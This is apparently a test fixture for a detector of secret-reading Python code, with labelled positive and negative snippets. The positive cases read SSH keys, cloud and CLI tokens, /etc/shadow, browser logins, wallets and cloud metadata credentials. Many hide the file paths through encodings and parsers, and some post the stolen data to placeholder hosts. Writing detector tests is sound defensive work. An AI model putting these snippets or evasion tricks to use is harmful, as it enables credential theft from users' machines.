#@ pos ssh key
open("/root/.ssh/id_rsa").read()
#@ pos home-relative
import os
os.path.expanduser("~/.ssh/id_ed25519")
#@ pos aws credentials, concatenated
p = "~/.a" + "ws/credentials"
#@ pos shadow
open("/etc/shadow")
#@ pos path pieces
import os
os.path.join(os.environ["HOME"], ".aws", "credentials")
#@ pos environ of a process
open("/proc/self/environ").read()
#@ pos escaped characters
open("/etc/\x73hadow")
#@ neg ordinary files
open("/etc/hostname").read()
open("data/ssh_notes.txt")
#@ neg the words in a comment
# never read ~/.ssh/id_rsa
print("ok")
#@ pos os.path.join with expanduser
import os
os.path.join(os.path.expanduser("~"), ".config", "gcloud", "*")
#@ pos Path.home() joined with /
from pathlib import Path
(Path.home() / ".aws" / "credentials").read_text()
#@ pos a glob bracket hides the directory name
import glob
glob.glob("/home/*/.s[s]h/id_*")
#@ neg .env (py-dotenv; py-env-exfil with the network)
open(".env").read()
#@ neg .env.example
open(".env.example").read()
#@ pos netrc.netrc() reads ~/.netrc without naming it
import netrc
print(netrc.netrc().hosts)
#@ pos credentials files in any dot directory, by a glob
import glob, os
for p in glob.glob(os.path.expanduser("~/.*/credentials")):
    print(open(p).read())
#@ pos the GitHub CLI's token file
import os
k = open(os.path.join(os.environ["HOME"], ".config", "gh", "hosts.yml")).read()
#@ neg an OAuth client file next to the program
import json
client = json.load(open("credentials.json"))
#@ pos a browser's saved passwords
import os, sqlite3
sqlite3.connect(os.path.expanduser("~/.config/google-chrome/Default/Login Data"))
#@ pos Discord's local storage
import glob, os
glob.glob(os.path.expanduser("~/.config/discord/Local Storage/leveldb/*.ldb"))
#@ pos Firefox profiles
import pathlib
list((pathlib.Path.home() / ".mozilla/firefox").glob("*/logins.json"))
#@ pos a wallet
import os
open(os.path.expanduser("~/.bitcoin/wallet.dat"), "rb")
#@ neg a project's own cookies file
open("data/cookies.txt").read()
#@ pos an SSH key path as character codes in a name, joined by a generator
import os
CODES = [126, 47, 46, 115, 115, 104, 47, 105, 100, 95, 114, 115, 97]
print(open(os.path.expanduser("".join(chr(c) for c in CODES))).read())
#@ neg a character table and a cipher, as HumanEval solutions write them
LOWER = "".join(map(chr, range(97, 123)))
def shift(s, k):
    return "".join(chr((ord(ch) - 97 + k) % 26 + 97) for ch in s)
assert shift("abc", 1) == "bcd"
assert "".join(map(chr, [104, 105])) == "hi"
assert "cab".translate(str.maketrans("abc", "xyz")) == "zxy"
#@ pos a key directory as a stride slice
import os
print(os.listdir(os.path.expanduser("~/" + "._s_s_h"[::2])))
#@ pos a key directory by printf-style formatting
import os
print(os.listdir(os.path.join(os.path.expanduser("~"), "%s%s" % (".", "ssh"))))
#@ pos a key directory by str.format with keyword fields
import os
print(os.listdir("~/{d}{n}".format(d=".", n="aws")))
#@ pos a key directory by repetition
import os
fd = os.open("." + "s" * 2 + "h", os.O_RDONLY)
#@ pos home's entries filtered by name, read and posted
import os, urllib.request
blob = b""
for e in os.scandir(os.path.expanduser("~")):
    if e.name.startswith(".") and e.name.endswith("sh"):
        for k in os.scandir(e.path):
            blob += open(k.path, "rb").read()
urllib.request.urlopen("http://x/", data=blob)
#@ neg the sizes of home's entries, printed, no network
import os
for e in os.scandir(os.path.expanduser("~")):
    if e.is_file():
        with open(e.path, "rb") as fh:
            print(e.name, len(fh.read()))
#@ pos every file of a key directory by a wildcard in its name
import glob, os
keys = glob.glob(os.path.expanduser("~/.s?h/*"))
#@ neg every file of a config directory named as it is, listed
import glob, os
print(glob.glob(os.path.expanduser("~/.config/*")))
#@ pos a path joined from a list kept in a name
import os
PARTS = ["~", "/.", "a", "w", "s", "/credentials"]
open(os.path.expanduser("".join(PARTS))).read()
#@ pos the whole home directory packed
import shutil
from pathlib import Path
shutil.make_archive("/tmp/s", "gztar", root_dir=Path.home())
#@ pos the whole home directory copied
import os, shutil
shutil.copytree(os.environ["HOME"], "/tmp/outbox")
#@ pos the whole home directory added to a tar archive
import os, tarfile
t = tarfile.open("/tmp/h.tgz", "w:gz")
t.add(os.path.expanduser("~"))
#@ neg a project of the home directory packed and copied
import os, shutil
shutil.make_archive("/tmp/p", "zip", os.path.expanduser("~/project"))
shutil.copytree(os.path.expanduser("~/src"), "/tmp/src")
#@ neg ssh's client settings, read (host list, no secret)
import os
from pathlib import Path
open(os.path.join(os.path.expanduser("~"), ".ssh", "config")).read()
(Path.home() / ".ssh" / "known_hosts").read_text()
#@ pos the keys' directory from the settings' path
import os
d = os.path.dirname(os.path.join(os.path.expanduser("~"), ".ssh", "config"))
#@ pos a keyring
import os
open(os.path.expanduser("~/.local/share/keyrings/login.keyring"), "rb").read()
#@ pos another process's environment, pid formatted
import os
open("/proc/%d/environ" % os.getppid(), "rb").read()
#@ pos another process's environment, f-string
import os
open(f"/proc/{os.getppid()}/environ", "rb").read()
#@ pos a browser's directory named by a loop over a list
import os
for b in ["google-chrome", "chromium"]:
    print(open(os.path.join(os.path.expanduser("~/.config"), b, "Default", "Cookies"), "rb").read())
#@ pos a key's name from a loop, in an f-string
import os
for tool in ("gh", "hub"):
    print(open(os.path.expanduser(f"~/.config/{tool}/hosts.yml")).read())
#@ neg a loop over a project's own directories
import os
for d in ["src", "tests"]:
    print(os.listdir(os.path.join(os.path.expanduser("~/project"), d)))
#@ pos podman's registry logins
import json, os
auths = json.load(open(os.path.expanduser("~/.config/containers/auth.json")))["auths"]
#@ pos the Hugging Face token through a Path join
from pathlib import Path
token = (Path.home() / ".cache/huggingface/token").read_text()
#@ pos Maven's settings with its servers' passwords
import os
import xml.etree.ElementTree as ET
root = ET.parse(os.path.join(os.path.expanduser("~"), ".m2", "settings.xml")).getroot()
#@ neg a project's own settings.xml and gradle.properties
import xml.etree.ElementTree as ET
root = ET.parse("config/settings.xml").getroot()
props = open("gradle.properties").read()
#@ pos a credential path joined from values under constant keys
import os
from pathlib import Path
B, D, F = "base", "dir", "file"
def defaults():
    return {B: str(Path.home()), D: ".docker", F: "config.json"}
cfg = defaults()
print(open(os.path.join(cfg[B], cfg[D], cfg[F])).read())
#@ pos a lambda that reads a credential file joined from its parameters
import os
rd = lambda base, name: open(os.path.join(base, ".docker", name)).read()
print(rd(os.path.expanduser("~"), "config.json"))
#@ neg a lambda that reads a project file joined from its parameter
import os
rd = lambda name: open(os.path.join("reports", name)).read()
print(rd("summary.txt"))
#@ pos a socket connected to the SSH agent (SSH_AUTH_SOCK)
import os, socket
path = os.environ.get("SSH_AUTH_SOCK")
agent = socket.socket(socket.AF_UNIX)
agent.connect(path)
#@ neg the SSH agent handed to a child git in its environment
import os, subprocess
subprocess.run(["git", "fetch"], env={"PATH": os.environ["PATH"], "SSH_AUTH_SOCK": os.environ.get("SSH_AUTH_SOCK", "")})
#@ pos files kept by a private-key header and posted
import os, urllib.request
for d, _, fs in os.walk(os.getcwd()):
    for f in fs:
        t = open(os.path.join(d, f), errors="ignore").read()
        if t.startswith("-----BEGIN OPENSSH PRIVATE KEY-----"):
            urllib.request.urlopen("https://x.example/k", data=t.encode())
#@ neg a secret scanner that reports private-key headers locally
import os, sys
for d, _, fs in os.walk("."):
    for f in fs:
        if open(os.path.join(d, f), errors="ignore").read().startswith("-----BEGIN PRIVATE KEY-----"):
            print("private key in", os.path.join(d, f), file=sys.stderr)
#@ pos the shadow password database through spwd
import spwd
hashes = [e.sp_pwdp for e in spwd.getspall()]
#@ pos one account's shadow entry, the function imported under another name
from spwd import getspnam as entry
print(entry("root").sp_pwdp)
#@ neg the password database (no hashes)
import pwd
print([e.pw_name for e in pwd.getpwall()])
#@ pos a key path interpolated by a configparser filled from the program's text
import configparser, os
cp = configparser.ConfigParser(defaults={"h": os.path.expanduser("~")})
cp.read_string("[paths]\nhome = %(h)s\nkey = %(home)s/.%(w)s/id_rsa\nw = ssh\n")
open(cp["paths"]["key"], "rb").read()
#@ pos the same through cp.get
import configparser, os
cp = configparser.ConfigParser({"home": os.path.expanduser("~")})
cp.read_string("[DEFAULT]\nc = aws\nleaf = credentials\n[f]\np = %(home)s/.%(c)s/%(leaf)s\n")
open(cp.get("f", "p")).read()
#@ neg a configparser's interpolated cache path
import configparser, os
cp = configparser.ConfigParser({"home": os.path.expanduser("~")})
cp.read_string("[f]\ncache = %(home)s/.cache/tool/index.json\n")
open(cp["f"]["cache"]).read()
#@ pos a key's name decoded from UTF-16
import os
open(os.path.expanduser("~/" + b".\x00s\x00s\x00h\x00/\x00i\x00d\x00_\x00r\x00s\x00a\x00".decode("utf-16-le")))
#@ neg a log's name decoded from UTF-16
open(b"a\x00p\x00p\x00.\x00l\x00o\x00g\x00".decode("utf-16-le"))
#@ pos a key's path from configparser's ExtendedInterpolation
import configparser, os
cp = configparser.ConfigParser(defaults={"h": os.path.expanduser("~"), "t": "ssh"}, interpolation=configparser.ExtendedInterpolation())
cp.read_string("[k]\ndir = ${h}/.${t}\nkey = ${dir}/id_rsa\n")
open(cp.get("k", "key"))
#@ neg a log's path from configparser's ExtendedInterpolation
import configparser, os
cp = configparser.ConfigParser(defaults={"h": os.getcwd()}, interpolation=configparser.ExtendedInterpolation())
cp.read_string("[k]\ndir = ${h}/logs\nlog = ${dir}/app.log\n")
open(cp.get("k", "log"))
#@ pos a key path in a string literal's escapes, read by ast.literal_eval
import ast
from pathlib import Path
rel = ast.literal_eval(r"'\x2essh/id_\x72sa'")
print((Path.home() / rel).read_text())
#@ neg ast.literal_eval of an ordinary literal
import ast
print(ast.literal_eval(r"'\x62uild/notes.txt'"), ast.literal_eval("{'jobs': 2}"))
#@ pos a key path joined by functools.reduce
import operator
from functools import reduce
from pathlib import Path
print(open(reduce(operator.truediv, [".aws", "credentials"], Path.home())).read())
#@ neg a project path joined by functools.reduce
import operator
from functools import reduce
from pathlib import Path
print(open(reduce(operator.truediv, ["docs", "notes.md"], Path.cwd())).read())
#@ pos a key path in an encoded-word header
import os
from email.header import decode_header
open(os.path.expanduser(decode_header("=?utf-8?b?fi8uc3NoL2lkX2VkMjU1MTk=?=")[0][0].decode())).read()
#@ pos a key path through make_header of a quoted-printable word
import os
from email.header import decode_header, make_header
rel = str(make_header(decode_header("=?us-ascii?q?=2Eaws=2Fcredentials?=")))
open(os.path.join(os.path.expanduser("~"), rel)).read()
#@ neg an ordinary subject through make_header
import os
from email.header import decode_header, make_header
open(os.path.join("reports", str(make_header(decode_header("=?utf-8?q?weekly?="))))).read()
#@ pos a key path selected from sqlite
import os, sqlite3
(rel,) = sqlite3.connect(":memory:").execute("select '.a' || 'ws/' || char(99, 114, 101, 100, 101, 110, 116, 105, 97, 108, 115)").fetchone()
open(os.path.join(os.path.expanduser("~"), rel)).read()
#@ pos a key path from fetchone()[0]
import os, sqlite3
k = sqlite3.connect(":memory:").execute("select '~/.ss' || 'h/id_' || 'rsa'").fetchone()[0]
open(os.path.expanduser(k)).read()
#@ neg a report path selected from sqlite
import sqlite3
(rel,) = sqlite3.connect(":memory:").execute("select 'reports/' || char(100, 97, 121)").fetchone()
open(rel).read()
#@ pos a fullwidth key path normalised
import os, unicodedata
open(os.path.expanduser(unicodedata.normalize("NFKC", "～/．ｓｓｈ/ｉｄ＿ｒｓａ"))).read()
#@ neg a fullwidth data path normalised
import unicodedata
open(unicodedata.normalize("NFKC", "ｄａｔａ/ｉｎ．ｃｓｖ")).read()
#@ pos a key path spelled with xml.sax.saxutils.unescape's entities
import os
from xml.sax.saxutils import unescape
print(open(os.path.expanduser(unescape("~/&d;ssh/id&u;rsa", {"&d;": ".", "&u;": "_"}))).read())
#@ pos unescape's entities bound to a name, through an alias
import pathlib
import xml.sax.saxutils as sx
ENT = {"&a;": "aws"}
print(pathlib.Path.home().joinpath(sx.unescape(".&a;/credentials", ENT)).read_text())
#@ neg an XML text unescaped
from xml.sax.saxutils import unescape
print(open(unescape("data/R&amp;D &lt;2024&gt;.csv")).read())
#@ pos a key path spelled with html.unescape's references
import html, os
print(open(os.path.expanduser(html.unescape("&#126;/&period;aws&sol;credentials"))).read())
#@ neg a page title unescaped
import html
print(open(html.unescape("notes/Q&amp;A &#8211; week.txt")).read())
#@ pos a csv table of the program's own text names the key folder and file
import csv, io, os
for row in csv.DictReader(io.StringIO("dir,file\n.aws,credentials\n")):
    print(open(os.path.join(os.path.expanduser("~"), row["dir"], row["file"])).read())
#@ pos tab-separated lines of a bound text, split by csv.reader
import csv, os
T = "kind\tfolder\tleaf\ndeploy\t.ssh\tid_rsa\n"
for k, d, f in csv.reader(T.splitlines(), delimiter="\t"):
    print(open(os.path.join(os.path.expanduser("~"), d, f)).read())
#@ neg a csv table of ordinary settings folders
import csv, io, os
for row in csv.DictReader(io.StringIO("dir,file\n.config,nvim\n.local,bin\n")):
    print(os.path.join(os.path.expanduser("~"), row["dir"], row["file"]))
#@ pos the Databricks CLI's token file
import os
open(os.path.expanduser("~/.databrickscfg")).read()
#@ pos the cloud metadata service's role credentials
import urllib.request
urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/web")
#@ pos GCP's service account token from the metadata server
MD = "http://metadata.google.internal/computeMetadata/v1/"
url = MD + "instance/service-accounts/default/token"
#@ neg the instance's zone from the metadata service
import urllib.request
urllib.request.urlopen("http://169.254.169.254/latest/meta-data/placement/availability-zone")
#@ pos a query string's field names the key folder
import os
from urllib.parse import parse_qsl
opts = dict(parse_qsl("dir=%7E%2F%2Essh&f=x"))
open(os.path.join(opts["dir"], "id_rsa"))
#@ pos parse_qs's first value
from urllib.parse import parse_qs
q = parse_qs("d=~/.aws&d=x")
open(q["d"][0] + "/credentials")
#@ neg a query string of ordinary files
import os
from urllib.parse import parse_qsl
opts = dict(parse_qsl("dir=data&file=report%2Ecsv"))
open(os.path.join(opts["dir"], opts.get("file")))
#@ pos a cloud CLI's API key under its dot-directory
import os
open(os.path.join(os.path.expanduser("~"), ".oci", "oci_api_key.pem"))
#@ pos a private key kept in a tool's configuration directory
from pathlib import Path
(Path.home() / ".config" / "syncthing" / "key.pem").read_bytes()
#@ neg a CA certificate in a tool's dot-directory
from pathlib import Path
(Path.home() / ".mitmproxy" / "mitmproxy-ca-cert.pem").read_bytes()
#@ pos a cookie jar's values joined into a key's path
import os
from http.cookies import SimpleCookie
jar = SimpleCookie()
jar.load('d=".ssh"; f="id_rsa"')
open(os.path.join(os.path.expanduser("~"), jar["d"].value, jar["f"].value))
#@ neg a cookie jar of ordinary values
from http.cookies import SimpleCookie
jar = SimpleCookie('d="data"; f=report.csv')
open(jar["d"].value + "/" + jar["f"].value)
#@ pos a mail client's saved password
from pathlib import Path
(Path.home() / ".msmtprc").read_text()
#@ pos fetchmail's settings
import os
open(os.path.expanduser("~/.fetchmailrc")).read()
#@ pos FileZilla's saved sites
import os
open(os.path.join(os.path.expanduser("~"), ".config", "filezilla", "sitemanager.xml"))
#@ pos a WireGuard tunnel's private key
open("/etc/wireguard/wg0.conf").read()
#@ neg the mail client's log
from pathlib import Path
(Path.home() / ".msmtp.log").read_text()
#@ pos a path's stem, name or suffix replaced onto a key
from pathlib import Path
print((Path.home() / ".docker" / "daemon.json").with_stem("config"))
print((Path.home() / ".ssh" / "known_hosts").with_name("id_rsa"))
#@ pos nested classes' names spell the path
from pathlib import Path
class ssh:
    class id_ed25519:
        pass
print(Path.home() / ("." + ssh.id_ed25519.__qualname__.replace(".", "/")))
#@ pos the class handed to a helper that reads its qualified name
import os
class aws:
    class credentials:
        pass
def where(cls):
    return os.path.expanduser("~/." + cls.__qualname__.replace(".", "/"))
print(where(aws.credentials))
#@ neg a backup's name from with_stem, nested command classes
from pathlib import Path
class cli:
    class build:
        pass
print(Path("settings.toml").with_stem("settings.bak"), cli.build.__qualname__)
#@ pos a key file named by the tail of a split, picked by itemgetter
import operator
from pathlib import Path
name = operator.itemgetter(-1)("profile,default,.aws/credentials".split(","))
print((Path.home() / name).read_text())
#@ pos a key's folder picked out of partition and rpartition
import operator
from pathlib import Path
spec = "deploy:.ssh:id_ed25519"
folder = operator.itemgetter(2)(spec.rpartition(":")[0].partition(":"))
print((Path.home() / folder / spec.rpartition(":")[2]).read_text())
#@ neg a host picked out of a spec by partition
import operator
spec = "deploy:build.example.net:2222"
print(operator.itemgetter(2)(spec.rpartition(":")[0].partition(":")))
#@ pos the SDK's resolved keys sent with urllib
import urllib.request
import boto3
creds = boto3.Session().get_credentials().get_frozen_credentials()
urllib.request.urlopen("http://203.0.113.9/k", data=creds.secret_key.encode())
#@ pos botocore's session keys written to a socket
import socket
import botocore.session
c = botocore.session.get_session().get_credentials()
socket.create_connection(("203.0.113.9", 443)).sendall(c.secret_key.encode())
#@ neg the SDK's keys checked for presence, the network only through the SDK
import boto3
if boto3.Session().get_credentials() is None:
    raise SystemExit("run aws configure")
print(boto3.client("s3").list_buckets())
#@ neg a get_credentials of the program's own and requests, no cloud SDK
import requests
class Vault:
    def get_credentials(self):
        return ("demo", "demo")
print(requests.get("https://example.org", auth=Vault().get_credentials()).status_code)
#@ pos a shell's history read
import os
open(os.path.expanduser("~/.bash_history")).read()
#@ pos a REPL's history read through pathlib
from pathlib import Path
(Path.home() / ".python_history").read_text()
#@ neg the program's own command log
open("logs/command_history.log").read()
#@ pos git's stored credentials under $XDG_CONFIG_HOME, or its default
import os
base = os.environ.get("XDG_CONFIG_HOME") or os.path.expanduser("~/.config")
open(os.path.join(base, "git", "credentials")).read()
#@ pos the keyring store under $XDG_DATA_HOME
import os
os.listdir(os.path.join(os.environ["XDG_DATA_HOME"], "keyrings"))
#@ neg a tool's own settings under $XDG_CONFIG_HOME
import os
base = os.environ.get("XDG_CONFIG_HOME") or os.path.expanduser("~/.config")
open(os.path.join(base, "notetool", "settings.json")).read()
